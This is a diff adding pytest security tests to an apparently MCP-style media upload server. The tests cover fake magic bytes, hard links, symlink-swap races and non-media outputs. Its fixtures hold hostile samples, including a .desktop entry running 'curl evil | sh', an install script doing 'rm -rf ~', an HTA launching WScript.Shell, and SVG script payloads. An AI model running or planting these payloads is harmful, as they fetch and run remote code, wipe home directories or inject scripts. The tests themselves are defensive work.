@@ -863,3 +863,130 @@ def test_root_uris_become_local_folders_only_when_plainly_local() -> None:
     ]
     refused = ["file:", "file:.", "file:///", "file://nas/share", "file:///a/..%2F..", "http://x/", "file:///a/./b"]
     assert root_paths(refused) == []
+
+
+# -- files: what is media, races, hard links, what lands on disk --------------------------------------------
+
+MEDIA = Path(__file__).parent / "fixtures" / "media"
+
+
+@pytest.mark.parametrize(
+    ("name", "content_type"),
+    [
+        ("tone.mp3", "audio/mpeg"),
+        ("tone.flac", "audio/flac"),
+        ("tone.ogg", "audio/ogg"),
+        ("tone.m4a", "audio/mp4"),
+        ("clip.mp4", "video/mp4"),
+        ("clip.mov", "video/quicktime"),
+        ("clip.webm", "video/webm"),
+    ],
+)
+def test_real_media_is_uploaded_as_what_it_is(session: Session, name: str, content_type: str) -> None:
+    target = session.root / f"real-{name}"
+    target.write_bytes((MEDIA / name).read_bytes())
+    try:
+        result = session.call("upload_media", {"path": str(target)})
+    finally:
+        target.unlink()
+    assert not result.is_error, text_of(result)
+    assert (result.structured_content or {})["content_type"] == content_type
+
+
+@pytest.mark.parametrize(
+    ("name", "data"),
+    [
+        ("notes.bmp", b"BM this is a text file that happens to start with BM\n" * 20),
+        ("song.mp3", b"ID3 is how this text file starts, and nothing after it is audio.\n" * 20),
+        ("frame.mp3", b"\xff\xe0 two bytes that look like an MPEG frame, then prose.\n" * 20),
+        ("movie.mp4", b"\x00\x00\x00\x18ftypisom" + b"not a movie at all, only a box name. " * 30),
+        ("vector.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>' * 5),
+        ("page.png", b"<!doctype html><html><body>not a picture</body></html>" * 10),
+    ],
+)
+def test_two_magic_bytes_do_not_make_a_file_media(session: Session, name: str, data: bytes) -> None:
+    target = session.root / f"fake-{name}"
+    target.write_bytes(data)
+    try:
+        result = session.call("upload_media", {"path": str(target)})
+    finally:
+        target.unlink()
+    expect_error("upload_media", result, "is not an image, video or audio file")
+
+
+def test_a_hard_link_to_a_file_outside_the_root_is_refused(session: Session) -> None:
+    link = session.root / "linked.png"
+    os.link(session.outside / "secret.png", link)
+    try:
+        result = session.call("upload_media", {"path": str(link)})
+    finally:
+        link.unlink()
+    expect_error("upload_media", result, "has 2 hard links", "Upload a copy")
+
+
+@pytest.mark.parametrize(
+    ("name", "data"),
+    [
+        ("payload.exe", b"MZ\x90\x00" + bytes(200)),
+        ("run.hta", b"<html><script>new ActiveXObject('WScript.Shell').Run('calc')</script></html>"),
+        ("image.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
+        ("index.html", b"<!doctype html><title>x</title>"),
+        ("app.desktop", b"[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n"),
+        ("install.sh", b"#!/bin/sh\nrm -rf ~\n"),
+    ],
+)
+def test_outputs_that_are_not_media_are_never_saved(session: Session, name: str, data: bytes) -> None:
+    url = _on_the_origin(session, name, data)
+    session.emulator.state.plan_next(PredictionPlan(seconds=0, output_urls=[url]))
+    [output] = expect_done(session.call("generate_image", {"prompt": "x", "wait": True}))["outputs"]
+    assert output["saved_path"] is None and output["url"] == url
+    assert "not saved: the file is not a recognised image, video or audio file" in output["note"]
+    out = session.settings.output_dir
+    assert out is not None
+    assert not [path for path in (out.iterdir() if out.is_dir() else []) if path.suffix == Path(name).suffix]
+
+
+@pytest.mark.anyio
+async def test_swapping_a_folder_for_a_symlink_while_uploading_never_sends_a_file_from_outside(
+    emulator: Emulator, tmp_path: Path, figures: list[str]
+) -> None:
+    """The race the issue measured (12 escapes in 400 tries): the path is checked, then a folder on it is swapped
+    for a symlink to outside before the open. Opening each component with O_NOFOLLOW leaves no window."""
+    root, outside = tmp_path / "root", tmp_path / "outside"
+    (root / "sub").mkdir(parents=True)
+    outside.mkdir()
+    Image.new("RGB", (8, 8), "green").save(root / "sub" / "x.png")
+    Image.new("RGB", (8, 8), "red").save(outside / "x.png")
+    with (outside / "x.png").open("ab") as pad:
+        pad.write(bytes(4096))  # the outside file's size gives it away
+    secret_size = (outside / "x.png").stat().st_size
+    stop = threading.Event()
+
+    def swap() -> None:
+        while not stop.is_set():
+            os.rename(root / "sub", root / "real")
+            os.symlink(outside, root / "sub")
+            os.unlink(root / "sub")
+            os.rename(root / "real", root / "sub")
+
+    config = Settings(api_key=TEST_KEY, base_url=emulator.url, upload_roots=(root.resolve(),))
+    swapper = threading.Thread(target=swap, daemon=True)
+    outcomes = {"uploaded": 0, "refused": 0}
+    async with Client(create_server(config)) as client:
+        swapper.start()
+        try:
+            for _ in range(1000):
+                result = await client.call_tool("upload_media", {"path": str(root / "sub" / "x.png")})
+                assert_not_a_crash("upload_media", result)
+                outcomes["refused" if result.is_error else "uploaded"] += 1
+        finally:
+            stop.set()
+            swapper.join(5)
+    sizes = [r.body_size for r in emulator.state.requests if r.path == "/api/v1/model/uploadMedia"]
+    escapes = [size for size in sizes if size > secret_size]
+    assert escapes == [], f"{len(escapes)} uploads of the outside file in 1000 tries"
+    figures.append(
+        f"upload race, 1000 tries with a folder swapped for a symlink: {outcomes['uploaded']} uploaded (all from "
+        f"inside), {outcomes['refused']} refused, 0 escapes"
+    )
+    assert outcomes["uploaded"] > 0, outcomes  # the race ran against real uploads, not only refusals
